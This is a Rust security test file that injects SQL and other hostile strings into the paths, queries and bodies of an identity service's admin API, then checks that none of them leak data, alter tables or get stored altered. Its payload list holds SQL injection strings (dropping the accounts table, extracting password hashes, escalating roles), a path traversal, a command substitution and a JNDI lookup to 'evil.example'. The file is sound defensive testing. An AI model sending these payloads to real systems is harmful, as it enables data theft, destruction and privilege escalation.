//! SQL and other languages in every string of the calls of administrators and of somebody signed in (A94): in bodies, paths and
//! queries. Whatever is written there is a value: it finds nobody, it is stored as it was written, and nothing else changes.

use core::fmt::Write as _;

use latchkey_protocol::api::AdminRoute;
use latchkey_shared::wire::{Groups, User, Written};
use latchkey_tests::driver::{Answer, Call, Driver as _};
use latchkey_tests::http::Http;
use latchkey_tests::scenario::administration::as_operator;
use serde_json::{Value, json};

use crate::books;
use crate::calls::{self, Form, Pass, Who};
use crate::case::Verdict;
use crate::target::Target;

/// What is written in place of a string.
const PAYLOADS: [&str; 10] = [
    "' OR '1'='1",
    "'; DROP TABLE accounts;--",
    "\" OR \"\"=\"",
    "') UNION SELECT password_hash FROM accounts--",
    "'||(SELECT password_hash FROM accounts)||'",
    "x' WHERE 1=1; UPDATE accounts SET role='global_administrator';--",
    "%' ESCAPE '\\",
    "_*?[a-z]",
    "../../policy",
    "$(id) {{7*7}} ${jndi:ldap://evil.example/a}",
];
/// What no answer may hold: what is stored of passwords, and how a database complains.
const SECRETS: [&str; 5] = ["$argon2", "SQLITE", "D1_ERROR", "syntax error", "CREATE TABLE"];

/// What must not change, whatever is written: the tables there are, and what lets people in.
fn lasting(http: &Http) -> Vec<Vec<Value>> {
    [
        "SELECT type, name, sql FROM sqlite_master ORDER BY name",
        "SELECT id, password_hash FROM accounts WHERE id LIKE 's-%' ORDER BY id",
        "SELECT id, account, sealed FROM enrolments ORDER BY id",
        "SELECT id, role FROM accounts WHERE role <> 'user' ORDER BY id",
        "SELECT version, document FROM policies ORDER BY version",
    ]
    .iter()
    .map(|query| books::rows(http, query))
    .collect()
}

/// Every string of every such call, one at a time.
pub fn in_every_string(target: &Target) -> Verdict {
    let http = target.world();
    let log = target.log().len();
    let pass = Pass::new(&http);
    let before = lasting(&http);
    let (mut wrong, mut tried) = (Vec::new(), 0);
    let mut check = |what: &str, payload: &str, answer: &Answer, is_odd: bool| {
        tried += 1;
        let text = answer.text();
        if answer.status >= 500 || SECRETS.iter().any(|secret| text.contains(secret)) {
            wrong.push(format!("{what}: {payload} was answered {} {text}", answer.status));
        } else if is_odd {
            wrong.push(format!("{what}: {payload} found something: {text}"));
        }
    };
    // Before anybody is called so, whom a search would rightly find.
    for row in AdminRoute::ALL {
        for payload in PAYLOADS {
            for (place, path) in in_path(row.path, payload) {
                let answer = http.call(&as_operator(&http, row.method, &path));
                check(&format!("{} {} at {place}", row.method, row.path), payload, &answer, answer.status == 200);
            }
            for name in row.query.iter().filter(|_| row.method == "GET") {
                let path = format!("{}?{name}={}", row.path, escaped(payload));
                let answer = http.call(&as_operator(&http, "GET", &path));
                // Golden: no question in which a payload stands has an answer with somebody in it.
                let found = answer.status == 200 && !is_empty(&answer);
                check(&format!("{} with {name}", row.path), payload, &answer, found);
            }
        }
    }
    for form in calls::all().into_iter().filter(|form| form.who != Who::Anybody) {
        for payload in PAYLOADS {
            for (place, call) in in_body(&form, payload, &pass) {
                check(&format!("{} at {place}", form.name()), payload, &http.call(&call), false);
            }
        }
    }
    if lasting(&http) != before {
        wrong.push("tables, passwords, methods, roles or the policy were changed".to_owned());
    }
    wrong.extend(PAYLOADS.iter().enumerate().filter_map(|(number, payload)| kept_as_written(&http, number, payload)));
    let written = target.log();
    let complaints = written.get(log..).unwrap_or_default();
    if SECRETS.iter().any(|word| complaints.contains(word)) {
        wrong.push("the database complained in the log".to_owned());
    }
    Verdict::of(&wrong, format!("{tried} strings, {} did something else than being a value", wrong.len()))
}

/// Writes the payload into each text of a body in turn.
fn in_body(form: &Form, payload: &str, pass: &Pass) -> Vec<(String, Call)> {
    let Some(body) = form.body() else { return Vec::new() };
    let with = |body: &Value| form.call(Some(body), Some(pass));
    match &body {
        // A table: in each cell of its second row.
        Value::String(table) => {
            let cell = format!("\"{}\"", payload.replace('"', "\"\""));
            let (names, _) = table.split_once('\n').unwrap_or((table, ""));
            let rows = [format!("{cell},A"), format!("a{tag}@alderbrook.example,{cell}", tag = payload.len())];
            rows.iter().map(|row| ("a cell".to_owned(), with(&json!(format!("{names}\n{row}\n"))))).collect()
        }
        Value::Object(fields) => {
            let texts = fields.iter().filter(|(_, value)| value.is_string() || value.is_array());
            let written = |(name, value): (&String, &Value)| {
                let mut changed = form.body().and_then(|body| body.as_object().cloned()).unwrap_or_default();
                changed.insert(name.clone(), if value.is_array() { json!([payload]) } else { json!(payload) });
                (name.clone(), with(&Value::Object(changed)))
            };
            texts.map(written).collect()
        }
        _ => Vec::new(),
    }
}

/// Writes the payload into each place of a path in turn; the others hold what there is.
fn in_path(path: &str, payload: &str) -> Vec<(String, String)> {
    let places = ["{id}", "{method}", "{version}"].into_iter().filter(|place| path.contains(place));
    let written = |place: &str| {
        let filled = path.replace(place, &escaped(payload));
        let filled = filled.replace("{id}", "s-mei.tanaka").replace("{method}", "s-mei.tanaka-1");
        (place.to_owned(), filled.replace("{version}", "1"))
    };
    places.map(written).collect()
}

/// Writes every byte as an escape (RFC 3986 §2.1).
fn escaped(text: &str) -> String {
    text.bytes().fold(String::new(), |mut escaped, byte| {
        write!(escaped, "%{byte:02x}").expect("a text can be written to");
        escaped
    })
}

/// Tells whether an answer is a list with nobody in it, or a table with its row of names alone.
fn is_empty(answer: &Answer) -> bool {
    match serde_json::from_slice::<Value>(&answer.body) {
        Ok(Value::Object(fields)) => fields.values().filter_map(Value::as_array).all(Vec::is_empty),
        _ => answer.text().lines().count() <= 1,
    }
}

/// Names an account and a group so, and reads both back.
fn kept_as_written(http: &Http, number: usize, payload: &str) -> Option<String> {
    let post = |path: &str, body: &Value| {
        let call = Call::post(path, body).with("authorization", &format!("Bearer {}", http.operator_token()));
        http.call(&call).ok::<Written>().id
    };
    let attempt = latchkey_tests::claimant::attempt;
    let name = format!("stored-{number}@alderbrook.example");
    let user = post("/admin/users", &json!({"attempt": attempt(), "name": name, "display_name": payload}));
    let group = post("/admin/groups", &json!({"attempt": attempt(), "name": payload}));
    let get = |path: &str| http.call(&as_operator(http, "GET", &format!("/api/v1/admin/{path}")));
    let shown = get(&format!("users/{user}")).ok::<User>().display_name;
    let groups = get("groups?limit=200").ok::<Groups>().groups;
    let is_kept = shown == payload && groups.iter().any(|known| known.id == group && known.name == payload);
    (!is_kept).then(|| format!("{payload} was stored as {shown}"))
}
